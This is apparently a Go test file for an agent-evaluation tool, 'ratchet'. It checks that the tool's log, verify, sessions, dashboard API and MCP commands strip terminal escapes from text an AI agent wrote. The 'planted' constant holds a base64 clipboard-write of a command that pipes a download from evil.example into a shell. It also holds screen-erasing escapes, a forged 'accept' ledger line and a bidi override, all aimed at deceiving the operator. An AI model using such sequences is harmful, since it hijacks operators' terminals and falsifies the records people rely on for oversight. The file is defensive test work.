package show_test

import (
	"bufio"
	"bytes"
	"database/sql"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	_ "modernc.org/sqlite"

	"ratchet/anchor"
)

// planted is what an agent writes where the operator will read it (a
// hypothesis, a component file name, a tool's output): an OSC 52 write of
// a shell command to the clipboard, cursor up and erase line, a forged
// accept line of ratchet log, then CSI as one C1 character and a bidi
// override.
const planted = "looks fine\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2K\r\n" +
	"  9 *  accept      train 0.100 -> 0.900  holdout 0.100 -> 0.900\u009b2J\u202etxt.exe"

// forbidden are the raw characters and the decoded JSON escapes that must
// never reach a reader.
var forbidden = []string{"\x1b", "\x07", "\r", "\u009b", "\u202e", `\u001b`, `\u0007`, `\r`, `\u009b`, `\u202e`}

// clean fails t if out holds a planted control, raw or as a JSON escape
// (unless the output is JSON for programs, the anchor's), or a line that
// starts with the forged accept (unless it is multi-line text, a diff).
func clean(t *testing.T, what string, out []byte, jsonEscapesOK bool, linesOK ...bool) {
	t.Helper()
	if !bytes.Contains(out, []byte("looks fine")) {
		t.Errorf("%s does not show the planted text at all (the walk proves nothing):\n%s", what, out)
	}
	for _, f := range forbidden {
		if jsonEscapesOK && strings.HasPrefix(f, `\`) {
			continue
		}
		if bytes.Contains(out, []byte(f)) {
			t.Errorf("%s prints %q raw:\n%q", what, f, out)
		}
	}
	for _, line := range strings.Split(string(out), "\n") {
		if strings.HasPrefix(line, "  9 *  accept") && len(linesOK) == 0 {
			t.Errorf("%s prints a forged accept line: %q", what, line)
		}
	}
}

func build(t *testing.T, dir, name string) string {
	_, file, _, _ := runtime.Caller(0)
	bin := filepath.Join(dir, name)
	cmd := exec.Command("go", "build", "-o", bin, "./cmd/"+name)
	cmd.Dir = filepath.Join(filepath.Dir(file), "..", "..")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build %s: %v %s", name, err, out)
	}
	return bin
}

// TestNoCommandPrintsAnAgentsEscapes plants the escape sequence of the
// attack (issue #21, attack 3) in everything an agent can reach: a
// generation's component, hypothesis, goal and reason, a train run's error
// and trace, a rejected diff, the evolve log and a door session. Then it
// runs every command that shows them, the real binaries: ratchet log (text
// and --json), ratchet evolve --history, ratchet sessions
// (table, --json, --show), the dashboard's API and the MCP server's ledger
// and session tools. None prints a control character raw, nor (where people
// or editors read decoded JSON) as an escape that decodes to one.
func TestNoCommandPrintsAnAgentsEscapes(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the ratchet and anchor binaries")
	}
	bin := t.TempDir()
	ratchet, anchorBin := build(t, bin, "ratchet"), build(t, bin, "anchor")
	home, rhome := t.TempDir(), t.TempDir()
	env := append(os.Environ(), "ANCHOR_HOME="+home, "RATCHET_HOME="+rhome, "MODEL_API=openai", "MODEL_NAME=", "MODEL_OPTIONS=")
	// run runs a command that must succeed, or end in a negative result when
	// negativeOK (verify on this hand-made ledger finds what does not add up,
	// and must print it as data too).
	runWith := func(negativeOK bool, name string, args ...string) []byte {
		t.Helper()
		cmd := exec.Command(name, args...)
		cmd.Env, cmd.Dir = env, t.TempDir()
		out, err := cmd.CombinedOutput()
		var exit *exec.ExitError
		if err != nil && !(negativeOK && errors.As(err, &exit) && exit.ExitCode() == 1) {
			t.Fatalf("%s %v: %v\n%s", filepath.Base(name), args, err, out)
		}
		return out
	}
	run := func(name string, args ...string) []byte {
		t.Helper()
		return runWith(false, name, args...)
	}
	// The ledger, as an anchor made it (anchor snapshot creates it), with
	// the agent's text where the anchor keeps it.
	harness := t.TempDir()
	os.WriteFile(filepath.Join(harness, "main.go"), []byte("package main\n\nfunc main() {}\n"), 0o644)
	hash := strings.TrimSpace(string(run(anchorBin, "snapshot", harness)))
	db, err := sql.Open("sqlite", filepath.Join(home, "ledger.db"))
	if err != nil {
		t.Fatal(err)
	}
	trace := filepath.Join(home, "traces", "r1.jsonl")
	event, _ := json.Marshal(map[string]any{"type": "tool_result", "name": "read_file", "result": planted})
	os.WriteFile(trace, append(event, '\n'), 0o644)
	os.WriteFile(filepath.Join(home, "diffs", "d1.diff"), []byte("--- a/x\n+++ b/x\n+"+planted+"\n"), 0o644)
	model := anchor.ModelID("openai", "", "")
	for _, q := range []string{
		`INSERT INTO generations(gen, harness_hash, component, hypothesis, decision, reason, goal, created_at, diff_hash, trace_ids, tokens)
			VALUES(0, '` + hash + `', ?1, ?1, 'baseline', ?1, ?1, '2026-01-01T00:00:00.000000000Z', 'd1', '[]', 0)`,
		`INSERT INTO generations(gen, parent_gen, harness_hash, component, hypothesis, decision, reason, goal, created_at, diff_hash, trace_ids, tokens)
			VALUES(1, 0, '` + hash + `', ?1, ?1, 'reject', ?1, ?1, '2026-01-01T00:00:01.000000000Z', 'd1', '[]', 0)`,
		`INSERT INTO runs(id, harness_hash, task_hash, task_id, split, model, score, passed, total, outcome, error, trace_path, created_at, judge,
			tokens_in, tokens_out, wall_ms, exit_code)
			VALUES('r1', '` + hash + `', 't', 'sum', 'train', '` + model + `', 0, 0, 1, 'crash', ?1, '` + trace + `', '2026-01-01T00:00:02.000000000Z', 'j', 0, 0, 0, 1)`,
	} {
		if _, err := db.Exec(q, planted); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	round, _ := json.Marshal(map[string]any{"time": "2026-01-01T00:00:03Z", "decision": "reject", "component": planted,
		"hypothesis": planted, "reason": planted, "goal": planted})
	os.WriteFile(filepath.Join(home, "evolve.jsonl"), append(round, '\n'), 0o644)
	plantSession(t, rhome)

	clean(t, "ratchet log", run(ratchet, "log"), false)
	clean(t, "ratchet log --json", run(ratchet, "log", "--json"), true)
	clean(t, "ratchet verify", runWith(true, ratchet, "verify"), false)
	clean(t, "ratchet verify --json", runWith(true, ratchet, "verify", "--json"), true)
	clean(t, "ratchet evolve --history", run(ratchet, "evolve", "--history"), false)
	clean(t, "ratchet sessions", run(ratchet, "sessions"), false)
	clean(t, "ratchet sessions --json", run(ratchet, "sessions", "--json"), false)
	clean(t, "ratchet sessions --show", run(ratchet, "sessions", "--show", "s1"), false)
	dashboard(t, ratchet, env, hash)
	mcpTools(t, ratchet, env)
}

// plantSession writes a door's request record whose request, answer,
// calls and changed files carry the planted text.
func plantSession(t *testing.T, rhome string) {
	t.Helper()
	rec, _ := json.Marshal(map[string]any{"id": "q1", "session": "s1", "project": "/p/" + planted, "request": planted,
		"outcome": planted, "answer": planted, "calls": []any{map[string]any{"name": "read_file", "args": planted, "observation": planted}},
		"changed": []string{planted}, "tests_before": planted})
	db, err := sql.Open("sqlite", filepath.Join(rhome, "sessions.db"))
	if err == nil {
		_, err = db.Exec(`CREATE TABLE requests(id TEXT PRIMARY KEY, session TEXT NOT NULL, seq INTEGER NOT NULL,
			project TEXT, request TEXT, outcome TEXT, record TEXT NOT NULL, finished TEXT);
			INSERT INTO requests VALUES('q1', 's1', 1, ?1, ?1, ?1, ?2, '2026-01-01T00:00:04Z')`, "/p/"+planted, string(rec))
	}
	if err != nil {
		t.Fatal(err)
	}
	db.Close()
}

// dashboard starts ratchet ui and reads every API page that shows the
// planted text. The diff is served as text, its lines its own.
func dashboard(t *testing.T, ratchet string, env []string, hash string) {
	t.Helper()
	cmd := exec.Command(ratchet, "ui", "--addr", "127.0.0.1:0")
	cmd.Env = env
	stderr, _ := cmd.StderrPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Signal(os.Interrupt); cmd.Wait() }()
	line, err := bufio.NewReader(stderr).ReadString('\n')
	_, url, ok := strings.Cut(strings.TrimSpace(line), " on ")
	if err != nil || !ok {
		t.Fatalf("ratchet ui said %q (%v)", line, err)
	}
	for _, page := range []string{"/api/generations", "/api/matrix", "/api/head", "/api/trace/r1", "/api/diff/d1"} {
		// ratchet ui prints its address once it listens: one request each.
		resp, err := http.Get(url + page)
		if err != nil {
			t.Fatalf("ratchet ui %s: %v", page, err)
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("ratchet ui %s: %v", page, err)
		}
		if page == "/api/matrix" || page == "/api/head" {
			if bytes.Contains(body, []byte("looks fine")) {
				clean(t, "ratchet ui "+page, body, false)
			}
			continue
		}
		if page == "/api/diff/d1" {
			clean(t, "ratchet ui "+page, body, false, true)
		} else {
			clean(t, "ratchet ui "+page, body, false)
		}
	}
}

// mcpTools speaks MCP over ratchet mcp's stdio and calls the tools that
// show the ledger and the sessions.
func mcpTools(t *testing.T, ratchet string, env []string) {
	t.Helper()
	var in bytes.Buffer
	for i, msg := range []string{
		`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`,
		`{"jsonrpc":"2.0","method":"notifications/initialized"}`,
		`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"ledger_generations","arguments":{}}}`,
		`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"ledger_runs","arguments":{}}}`,
		`{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"sessions","arguments":{}}}`,
	} {
		fmt.Fprintln(&in, msg)
		_ = i
	}
	dir := t.TempDir()
	cmd := exec.Command(ratchet, "mcp", "--root", dir)
	cmd.Env, cmd.Dir = env, dir
	stdin, _ := cmd.StdinPipe()
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	defer stdin.Close()
	stdin.Write(in.Bytes())
	// Read the replies as JSON-RPC messages, one per line, until each
	// request has its answer: a count of "id": strings is not enough, for
	// a reply may itself hold ids (a run's "id":"r1").
	type reply struct {
		out []byte
		err error
	}
	done := make(chan reply, 1)
	go func() {
		var out bytes.Buffer
		want := map[string]bool{"1": true, "2": true, "3": true, "4": true}
		sc := bufio.NewScanner(stdout)
		sc.Buffer(make([]byte, 0, 1<<16), 1<<24)
		for len(want) > 0 && sc.Scan() {
			out.Write(sc.Bytes())
			out.WriteByte('\n')
			var msg struct {
				ID json.RawMessage `json:"id"`
			}
			if json.Unmarshal(sc.Bytes(), &msg) == nil {
				delete(want, string(msg.ID))
			}
		}
		if len(want) > 0 {
			done <- reply{out.Bytes(), fmt.Errorf("stdout ended (%v) with no answer to ids %v", sc.Err(), want)}
			return
		}
		done <- reply{out.Bytes(), nil}
	}()
	var got reply
	select {
	case got = <-done:
	case <-time.After(5 * time.Minute):
		cmd.Process.Kill()
		got = <-done
		got.err = fmt.Errorf("no answer to all of ids 1-4 in 5 minutes: %v", got.err)
	}
	if got.err != nil {
		t.Fatalf("ratchet mcp: %v:\n%s", got.err, got.out)
	}
	out := bytes.NewBuffer(got.out)
	clean(t, "ratchet mcp", out.Bytes(), false)
}
